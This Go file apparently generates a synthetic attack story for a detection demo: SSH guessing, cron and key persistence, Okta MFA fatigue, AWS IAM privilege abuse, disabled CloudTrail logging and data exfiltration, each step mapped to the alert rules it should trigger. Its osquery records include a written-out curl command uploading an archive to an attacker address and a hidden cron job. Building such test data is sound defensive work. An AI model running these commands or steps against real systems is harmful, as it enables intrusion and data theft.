package demo

import (
	"fmt"
	"time"
)

// When the story's steps happen, as offsets into the day (UTC).
const (
	storyGuess        = 2*time.Hour + 10*time.Minute + 5*time.Second
	storyLogin        = 2*time.Hour + 16*time.Minute + 31*time.Second
	storySudo         = 2*time.Hour + 17*time.Minute + 48*time.Second
	storyPersist      = 2*time.Hour + 21*time.Minute
	storyPush         = 2*time.Hour + 27*time.Minute + 3*time.Second
	storyReset        = 2*time.Hour + 34*time.Minute + 47*time.Second
	storyCreateUser   = 2*time.Hour + 52*time.Minute + 10*time.Second
	storyAdmin        = 2*time.Hour + 52*time.Minute + 41*time.Second
	storyPublic       = 3*time.Hour + 8*time.Minute + 22*time.Second
	storyStopLogging  = 3*time.Hour + 14*time.Minute + 9*time.Second
	storyExfil        = 3*time.Hour + 25*time.Minute
	storyStartLogging = 8*time.Hour + 52*time.Minute + 30*time.Second
)

// Step is one step of the attack story and the alerts that tell it.
type Step struct {
	Time  time.Time
	Title string
	// Rules must each raise an alert on this step; the first is the one
	// the timeline shows.
	Rules []string
	// Mark is a value that each of the step's alerts carries in its record
	// (an address, an account): how a step's alerts are told apart from
	// alerts of the same rules on other records.
	Mark string
}

// Story lists the steps of the attack woven into the day, in order.
func Story(day time.Time) []Step {
	day = time.Date(day.Year(), day.Month(), day.Day(), 0, 0, 0, 0, time.UTC)
	return []Step{
		{day.Add(storyGuess), "SSH password guessing against web01 from " + AttackerIP,
			[]string{"sshd_credential_stuffing_failed_logins", "vpc_flow_known_bad_ip", "sshd_password_guessing_burst", "sshd_user_enumeration"}, AttackerIP},
		{day.Add(storyLogin), "the attacker logs in to web01 as deploy (password)",
			[]string{"sshd_login_accepted_from_known_bad_ip", "osquery_ssh_login", "sshd_guessing_then_login"}, AttackerIP},
		{day.Add(storySudo), "deploy tries sudo on web01 and is refused",
			[]string{"sudo_command_refused"}, "deploy"},
		{day.Add(storyPersist), "persistence on web01: an SSH key and a cron job for deploy",
			[]string{"osquery_authorized_keys_added", "osquery_crontab_added"}, "deploy"},
		{day.Add(storyPush), "MFA push fatigue against grace (Okta admin)",
			[]string{"okta_mfa_push_denied_burst"}, "grace@" + Domain},
		{day.Add(storyReset), "MFA bypass: grace's hijacked session resets all of dave's factors",
			[]string{"okta_mfa_factor_deactivated"}, "grace@" + Domain},
		{day.Add(storyCreateUser), "with ci-deployer's keys from web01: new IAM user backup-svc",
			[]string{"cloudtrail_iam_user_created"}, AttackerIP},
		{day.Add(storyAdmin), "backup-svc gets AdministratorAccess and an access key",
			[]string{"cloudtrail_iam_user_granted_admin", "cloudtrail_access_key_created_for_other_user", "cloudtrail_iam_access_key_created"}, AttackerIP},
		// A correlation rule sees the three calls as one sequence of one
		// principal (CreateUser, AttachUserPolicy, CreateAccessKey within
		// an hour): its alert is the whole window.
		{day.Add(storyAdmin + 24*time.Second), "ci-deployer's user, policy and key calls as one sequence",
			[]string{"cloudtrail_iam_persistence_sequence"}, "user/ci-deployer"},
		{day.Add(storyPublic), "S3 bucket finance-exports made public",
			[]string{"cloudtrail_s3_bucket_made_public"}, AttackerIP},
		{day.Add(storyStopLogging), "CloudTrail logging stopped",
			[]string{"cloudtrail_logging_stopped"}, AttackerIP},
		{day.Add(storyExfil), "data exfiltration: web01 sends " + exfilSize() + " to " + ExfilIP,
			[]string{"vpc_flow_exfiltration_to_known_bad_ip", "vpc_flow_known_bad_ip"}, ExfilIP},
	}
}

// exfilFlows are the bytes of each exfiltration flow, five minutes apart.
var exfilFlows = []int64{38_204_117, 52_881_402, 47_113_986, 58_730_551, 41_992_018, 55_407_733, 49_268_140, 36_015_377, 22_470_896}

func exfilSize() string {
	var n int64
	for _, b := range exfilFlows {
		n += b
	}
	return fmt.Sprintf("%d MB", (n+500_000)/1_000_000)
}

// storyData holds the story's records per log type.
type storyData struct{ byType map[string][]event }

func (s storyData) total() int {
	n := 0
	for _, evs := range s.byType {
		n += len(evs)
	}
	return n
}

// storyEvents writes the story's records. They depend on the day only, not
// on the seed: the story is the same in every demo.
func storyEvents(day time.Time) storyData {
	g := newGen(0x57_0e_1e, day)
	c := newCompany(g)
	s := storyData{byType: map[string][]event{}}
	add := func(lt string, t time.Time, line []byte) {
		s.byType[lt] = append(s.byType[lt], event{t: t, line: line})
	}
	web01 := c.byHost["web01"]
	at := func(d time.Duration) time.Time { return day.Add(d) }

	// 1. Password guessing on web01's sshd, then the login.
	auth := func(t time.Time, pid int, msg string) { add(LinuxAuth, t, authLine(t, "web01", "sshd", pid, msg)) }
	t := at(storyGuess)
	pid := 21901
	for i, user := range []string{"admin", "oracle", "root", "test", "deploy", "ubuntu", "postgres", "root", "git", "deploy", "jenkins", "deploy", "admin", "ftpuser"} {
		port := 40022 + i*37
		switch user {
		case "root", "deploy":
			auth(t, pid, fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, AttackerIP, port))
			auth(t.Add(2100*time.Millisecond), pid, fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, AttackerIP, port))
			auth(t.Add(2300*time.Millisecond), pid, fmt.Sprintf("Connection closed by authenticating user %s %s port %d [preauth]", user, AttackerIP, port))
		default:
			auth(t, pid, fmt.Sprintf("Invalid user %s from %s port %d", user, AttackerIP, port))
			auth(t.Add(1900*time.Millisecond), pid, fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", user, AttackerIP, port))
			auth(t.Add(2000*time.Millisecond), pid, fmt.Sprintf("Connection closed by invalid user %s %s port %d [preauth]", user, AttackerIP, port))
		}
		t = t.Add(time.Duration(21+g.intn(8))*time.Second + time.Duration(g.intn(1000))*time.Millisecond)
		pid += 3 + g.intn(20)
	}
	t = at(storyLogin)
	auth(t, 21990, fmt.Sprintf("Accepted password for deploy from %s port 41822 ssh2", AttackerIP))
	auth(t.Add(11*time.Millisecond), 21990, "pam_unix(sshd:session): session opened for user deploy(uid=1100) by (uid=0)")
	add(LinuxAuth, t.Add(40*time.Millisecond), authLine(t.Add(40*time.Millisecond), "web01", "systemd-logind", 612, "New session 3312 of user deploy."))
	t = at(storySudo)
	add(LinuxAuth, t, authLine(t, "web01", "sudo", 22047, "  deploy : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash"))

	// The same, as the VPC sees it: the SSH connections to web01.
	for m := range 14 {
		st := at(storyGuess).Truncate(time.Minute).Add(time.Duration(m) * time.Minute)
		f := flow{eni: web01.eni, src: AttackerIP, dst: web01.ip, sport: 40022 + m*61, dport: 22, proto: 6,
			packets: int64(40 + g.intn(80)), bytes: int64(6000 + g.intn(12000)), start: st, accept: true}
		add(VPCFlow, st, f.line())
		r := f.reply(g, int64(5000+g.intn(9000)))
		add(VPCFlow, st, r.line())
	}

	// 2. What osquery on web01 sees: the login, a new key, a cron job.
	o := newOsqueryLog(g, &collector{g: g, seen: map[string]bool{}}, 0)
	osq := func(t time.Time, query string, cols map[string]string) {
		t = t.Truncate(time.Second)
		add(Osquery, t, o.row(t, query, "web01", cols, "added"))
	}
	login := at(storyLogin)
	osq(at(storyLogin+2*time.Minute+4*time.Second), qLast, map[string]string{"username": "deploy", "tty": "pts/0", "pid": "21990", "type": "7",
		"time": fmt.Sprint(login.Unix()), "host": AttackerIP})
	osq(at(storyLogin+2*time.Minute+4*time.Second), qLoggedIn, map[string]string{"type": "user", "user": "deploy", "tty": "pts/0", "host": AttackerIP,
		"time": fmt.Sprint(login.Unix()), "pid": "21990"})
	osq(at(storyPersist+3*time.Second), qAuthKeys, map[string]string{"uid": "1100", "algorithm": "ssh-ed25519",
		"key": "AAAAC3NzaC1lZDI1NTE5AAAAIH7q1c0ZbQ2dE4m9pXo5sVf3kLw8yTn6uRj2aGh1cB0e", "options": "", "comment": "op@kali",
		"key_file": "/home/deploy/.ssh/authorized_keys"})
	osq(at(storyPersist+2*time.Minute+11*time.Second), qCrontab, map[string]string{"event": "", "minute": "*/30", "hour": "*", "day_of_month": "*",
		"month": "*", "day_of_week": "*", "command": "/home/deploy/.local/bin/.update >/dev/null 2>&1", "path": "/var/spool/cron/crontabs/deploy"})
	osq(at(storyExfil+4*time.Second), qProcesses, map[string]string{"pid": "24410", "name": "curl", "path": "/usr/bin/curl",
		"cmdline": "curl -sk -T /tmp/.cache/fe.tar.gz https://" + ExfilIP + "/u", "uid": "1100", "parent": "21990"})

	// 3. Okta: push fatigue on grace, who gives in; her session resets
	// dave's factors.
	ok := &oktaLog{g: g, c: c, col: &collector{g: g, seen: map[string]bool{}}, target: 1 << 30}
	grace, dave := c.person("grace"), c.person("dave")
	attacker := *grace
	attacker.browser = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
	attacker.city = city{"Frankfurt am Main", "Hesse", "Germany", "60313", 50.1109, 8.6821}
	okta := func(e *oktaEvent) {
		tt, _ := time.Parse("2006-01-02T15:04:05.000Z", e.Published)
		add(Okta, tt, jsonLine(e))
	}
	t = at(storyPush)
	for i := range 3 {
		okta(ok.event(t, &attacker, AttackerIP, "system.push.send_factor_verify_push", "A push was sent to the user for verification", "", "SUCCESS", "", pushTarget()))
		t = t.Add(time.Duration(9+i*4) * time.Second)
		okta(ok.event(t, &attacker, AttackerIP, "user.mfa.okta_verify.deny_push", "User rejected Okta push verify", "", "FAILURE", "User rejected Okta push verify", pushTarget()))
		t = t.Add(time.Duration(50+i*17) * time.Second)
	}
	okta(ok.event(t, &attacker, AttackerIP, "system.push.send_factor_verify_push", "A push was sent to the user for verification", "", "SUCCESS", "", pushTarget()))
	t = t.Add(23 * time.Second)
	okta(ok.event(t, &attacker, AttackerIP, "user.authentication.auth_via_mfa", "Authentication of user via MFA", "core.user.factor.attempt_success", "SUCCESS", "", pushTarget()))
	t = t.Add(400 * time.Millisecond)
	okta(ok.event(t, &attacker, AttackerIP, "user.session.start", "User login to Okta", "core.user_auth.login_success", "SUCCESS", "", nil))
	t = at(storyReset)
	okta(ok.event(t, &attacker, AttackerIP, "user.mfa.factor.reset_all", "Reset all factors for user", "core.user.factor.reset_all", "SUCCESS", "",
		[]obj{{"id": dave.oktaID, "type": "User", "alternateId": dave.email(), "displayName": dave.name}}))

	// 4. AWS, with the CI user's keys found on web01.
	b := &ctBuilder{g: g, c: c}
	kali := func(g *gen, service string) string {
		return "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off command/" + service
	}
	fromAttacker := func(*gen, time.Time) string { return AttackerIP }
	ci := principal{identity: iamUser("ci-deployer", "AIDAYVQ3EXAMPLECIDEPL", ciDeployerKey), ip: fromAttacker, ua: kali}
	svc := principal{identity: iamUser("backup-svc", "AIDAYVQ3EXAMPLEBACKUP", newKey), ip: fromAttacker, ua: kali}
	ct := func(e *ctEvent) {
		tt, _ := time.Parse(time.RFC3339, e.EventTime)
		add(CloudTrail, tt, jsonLine(e))
	}
	t = at(storyCreateUser - 40*time.Second)
	ct(b.event(t, ci, "sts.amazonaws.com", "GetCallerIdentity", true, nil, nil))
	t = at(storyCreateUser)
	ct(b.event(t, ci, "iam.amazonaws.com", "CreateUser", false, obj{"userName": "backup-svc"},
		obj{"user": obj{"path": "/", "userName": "backup-svc", "userId": "AIDAYVQ3EXAMPLEBACKUP", "arn": arnPrefix + "user/backup-svc", "createDate": t.Format("Jan 2, 2006 3:04:05 PM")}}))
	t = at(storyAdmin)
	ct(b.event(t, ci, "iam.amazonaws.com", "AttachUserPolicy", false, obj{"userName": "backup-svc", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, nil))
	t = t.Add(24 * time.Second)
	ct(b.event(t, ci, "iam.amazonaws.com", "CreateAccessKey", false, obj{"userName": "backup-svc"},
		obj{"accessKey": obj{"accessKeyId": newKey, "status": "Active", "userName": "backup-svc", "createDate": t.Format("Jan 2, 2006 3:04:05 PM")}}))
	t = at(storyPublic - 3*time.Minute)
	ct(b.event(t, svc, "s3.amazonaws.com", "ListBuckets", true, obj{"Host": "s3.amazonaws.com"}, nil))
	t = at(storyPublic)
	ct(b.event(t, svc, "s3.amazonaws.com", "PutBucketAcl", false, obj{"bucketName": "finance-exports", "Host": "finance-exports.s3.amazonaws.com", "acl": []string{""},
		"AccessControlPolicy": obj{"AccessControlList": obj{"Grant": []obj{
			{"Grantee": obj{"xsi:type": "CanonicalUser", "ID": "7f2c1d9a4b3e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4"}, "Permission": "FULL_CONTROL"},
			{"Grantee": obj{"xsi:type": "Group", "URI": "http://acs.amazonaws.com/groups/global/AllUsers"}, "Permission": "READ"},
		}}}}, nil))
	t = at(storyStopLogging)
	ct(b.event(t, svc, "cloudtrail.amazonaws.com", "StopLogging", false, obj{"name": "arn:aws:cloudtrail:" + Region + ":" + AccountID + ":trail/management-events"}, nil))
	// alice notices the trail is off and turns it back on.
	t = at(storyStartLogging)
	alice := principal{identity: iamUser("alice", "AIDAYVQ3EXAMPLEALICE0", "ASIAYVQ3EXAMPLECONSL"), ip: func(*gen, time.Time) string { return OfficeIP }, ua: consoleUA}
	ct(b.event(t, alice, "cloudtrail.amazonaws.com", "StartLogging", false, obj{"name": "arn:aws:cloudtrail:" + Region + ":" + AccountID + ":trail/management-events"}, nil))

	// 5. The data leaves web01 for the attacker's server.
	for i, n := range exfilFlows {
		st := at(storyExfil).Add(time.Duration(i) * 5 * time.Minute)
		f := flow{eni: web01.eni, src: web01.ip, dst: ExfilIP, sport: 51544 + i, dport: 443, proto: 6,
			bytes: n, start: st, accept: true}
		f.packets = f.bytes / 8950
		add(VPCFlow, st, f.line())
		add(VPCFlow, st, f.reply(g, int64(90000+g.intn(60000))).line())
	}
	return s
}

// newKey is the access key the attacker makes for backup-svc.
const newKey = "AKIAYVQ3EXAMPLEBKSVC"
